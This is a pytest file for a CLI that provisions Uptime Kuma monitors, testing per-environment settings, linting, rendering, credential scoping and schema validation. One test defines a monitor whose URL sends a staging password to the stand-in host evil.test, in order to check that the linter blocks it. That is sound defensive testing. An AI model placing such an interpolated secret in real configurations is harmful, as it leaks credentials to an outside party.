"""Environments without a server: the project file's `environments:`, lint in every environment
(each problem once per environment it affects, named, in text, json and github), `render --env`,
monitors limited to some environments, the credentials reserved, and the project file's schema."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import jsonschema
import pytest
import yaml
from click.testing import CliRunner, Result

from kumaprov.cli import main
from kumaprov.definitions import environments, project
from kumaprov.definitions.project import load_project
from kumaprov.definitions.project_schema import schema

REPO_ROOT = Path(__file__).resolve().parents[1]

PROJECT = """\
    project: openwebui
    environments:
      prod:
        url: https://status.example.com
        target: 2.5.3
        vars: {base_url: "https://chat.example.com", api_key_env: OPENWEBUI_PROD_KEY}
      staging:
        credentials: STG
        target: 1.23.17
        vars: {base_url: "https://chat.staging.example.com", api_key_env: OPENWEBUI_STAGING_KEY}
        defaults: {interval: 120}
"""
MONITORS = """\
    monitors:
      - {template: openwebui, vars: {id: owui, name: Open WebUI, model: llama3}}
      - {id: prod-only, name: Prod only, type: http, url: "https://x.example.com", environments: [prod]}
      - {id: both, name: Both, type: http, url: "https://y.example.com", interval: 10}
"""


def project_at(root: Path, project_text: str = PROJECT, monitors: str = MONITORS) -> Path:
    (root / "monitors").mkdir(parents=True, exist_ok=True)
    (root / "kumaprov.yaml").write_text(textwrap.dedent(project_text))
    (root / "monitors" / "m.yaml").write_text(textwrap.dedent(monitors))
    return root


def run(root: Path, monkeypatch: pytest.MonkeyPatch, *args: str, **env: str) -> Result:
    monkeypatch.chdir(root)
    return CliRunner().invoke(main, list(args), env={"KUMAPROV_NO_CACHE": "1", **env}, catch_exceptions=False)


def test_lint_reports_a_problem_once_per_environment_it_affects(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    # 10 s is below 1.23's minimum (staging) and fine on 2.5.3 (prod); the staging defaults'
    # interval only reaches monitors that set none.
    project_at(tmp_path)
    text = run(tmp_path, monkeypatch, "lint")
    assert text.exit_code == 1
    assert text.stdout.splitlines() == [
        "monitors/m.yaml:4:80: KP501 [staging] interval 10 s is below the minimum of 20 s on Uptime Kuma 1.23.17",
        "1 file(s) checked: 1 error(s), 0 warning(s)"]

    # A problem in both environments: once for each, each named, in all three formats.
    project_at(tmp_path, monitors=MONITORS + '      - {id: bad, name: Bad, type: http, url: "ftp://z.example.com"}\n')
    text = run(tmp_path, monkeypatch, "lint").stdout.splitlines()
    assert [line.split(": ", 1)[1].split("]")[0] for line in text[:-1]] == [
        "KP501 [staging", "KP104 [prod", "KP104 [staging"]
    document = json.loads(run(tmp_path, monkeypatch, "lint", "--output", "json").stdout)
    assert [(p["line"], p["code"], p["environment"]) for p in document["problems"]] == [
        (4, "KP501", "staging"), (5, "KP104", "prod"), (5, "KP104", "staging")]
    github = run(tmp_path, monkeypatch, "lint", "--output", "github").stdout.splitlines()
    assert [line.split("title=")[1].split(" ")[0] for line in github[:-1]] == [
        "KP501::[staging]", "KP104::[prod]", "KP104::[staging]"]

    one = run(tmp_path, monkeypatch, "lint", "--env", "prod", "--output", "json")
    assert {p["environment"] for p in json.loads(one.stdout)["problems"]} == {"prod"}


def test_render_shows_what_one_environment_gets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project_at(tmp_path, monitors=MONITORS.replace("interval: 10", "interval: 30"))
    assert run(tmp_path, monkeypatch, "lint").exit_code == 0
    plain = run(tmp_path, monkeypatch, "render")
    assert plain.exit_code == 2 and "pass --env NAME" in plain.output
    rendered = {env: {m["id"]: m for m in yaml.safe_load(run(tmp_path, monkeypatch, "render", "--env", env).stdout)
                      ["monitors"]} for env in ("prod", "staging")}
    assert sorted(rendered["prod"]) == ["both", "owui-chat", "owui-health", "owui-models", "prod-only"]
    assert sorted(rendered["staging"]) == ["both", "owui-chat", "owui-health", "owui-models"]
    assert rendered["prod"]["owui-health"]["url"] == "https://chat.example.com/health"
    assert rendered["staging"]["owui-health"]["url"] == "https://chat.staging.example.com/health"
    assert "${OPENWEBUI_STAGING_KEY}" in json.dumps(rendered["staging"]["owui-models"])
    assert "${OPENWEBUI_PROD_KEY}" in json.dumps(rendered["prod"]["owui-models"])
    unknown = run(tmp_path, monkeypatch, "render", "--env", "prd")
    assert unknown.exit_code == 2 and "no environment 'prd'" in unknown.output and "did you mean 'prod'" in unknown.output


def test_an_environment_no_one_declared_is_an_error_in_every_run(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    project_at(tmp_path, monitors=MONITORS.replace("environments: [prod]", "environments: [prd]"))
    result = run(tmp_path, monkeypatch, "lint")
    assert "KP008 [prod] no environment 'prd' (did you mean 'prod'?)" in result.stdout
    assert "KP008 [staging] no environment 'prd'" in result.stdout
    project_at(tmp_path, "project: solo\n", "monitors:\n  - {id: a, name: A, type: http, url: 'https://a.test',"
               " environments: [prod]}\n")
    assert "KP008 no environment 'prod'; kumaprov.yaml declares none" in run(tmp_path, monkeypatch, "lint").stdout


def test_server_commands_need_an_environment_and_use_only_its_variables(tmp_path: Path,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    project_at(tmp_path, monitors=MONITORS.replace("interval: 10", "interval: 30"))
    for command in ("diff", "sync", "alerts"):
        result = run(tmp_path, monkeypatch, command, KUMA_URL="http://127.0.0.1:9")
        assert result.exit_code == 2 and "pass --env NAME" in result.output
    # staging has no url: the plain KUMA_URL is never a fallback (it may be prod's).
    result = run(tmp_path, monkeypatch, "diff", "--env", "staging", KUMA_URL="http://127.0.0.1:9")
    assert result.exit_code == 2 and "set STG_KUMA_URL" in result.output
    (stg,) = [env for env in load_project(None, tmp_path)[0].environments if env.name == "staging"]
    assert stg.connection_environ({"STG_KUMA_URL": "http://s", "STG_KUMA_PASSWORD": "pw-1", "KUMA_TOKEN": "t"}) == {
        "KUMA_URL": "http://s", "KUMA_PASSWORD": "pw-1"}


def test_a_definition_cannot_read_an_environments_credentials(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    project_at(tmp_path, monitors="""\
        monitors:
          - {id: leak, name: Leak, type: http, url: "https://evil.test/?p=${STG_KUMA_PASSWORD}"}
    """)
    result = run(tmp_path, monkeypatch, "lint", STG_KUMA_PASSWORD="hunter2-secret")
    assert result.exit_code == 1 and "KP406" in result.stdout and "hunter2-secret" not in result.output


def test_bad_environments_are_reported_at_their_keys(tmp_path: Path) -> None:
    project_at(tmp_path, """\
        environments:
          Prod: {}
          staging: {url: "ftp://x", credentials: stg, target: 9.9.9, vars: [1], bogus: 1}
    """)
    _, problems = load_project(None, tmp_path)
    assert [(p.position.line, p.message.split(":")[0]) for p in problems] == [
        (2, "environments"), (3, "unknown key 'bogus' in environments.staging"), (3, "environments.staging.credentials"),
        (3, "environments.staging.url"), (3, "environments.staging.target"), (3, "environments.staging.vars")]


def test_without_environments_problems_name_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project_at(tmp_path, "project: solo\ntarget: 1.23.17\n", "monitors:\n  - {id: a, name: A, type: http,"
               " url: 'https://a.test', interval: 10}\n")
    result = run(tmp_path, monkeypatch, "lint", "--output", "json")
    (problem,) = json.loads(result.stdout)["problems"]
    assert "environment" not in problem and not problem["message"].startswith("[")


def test_the_project_file_schema_is_committed_and_covers_every_key() -> None:
    committed = json.loads((REPO_ROOT / "schema" / "kumaprov-project.schema.json").read_text(encoding="utf-8"))
    assert committed == schema()
    jsonschema.Draft202012Validator.check_schema(committed)
    assert set(committed["properties"]) == set(project.KEYS)
    assert set(committed["properties"]["environments"]["additionalProperties"]["properties"]) == set(environments.KEYS)
    validator = jsonschema.Draft202012Validator(committed)
    assert list(validator.iter_errors(yaml.safe_load(textwrap.dedent(PROJECT)))) == []
    assert [e.message for e in validator.iter_errors({"environments": {"prod": {"urls": "x"}}})] == [
        "Additional properties are not allowed ('urls' was unexpected)"]
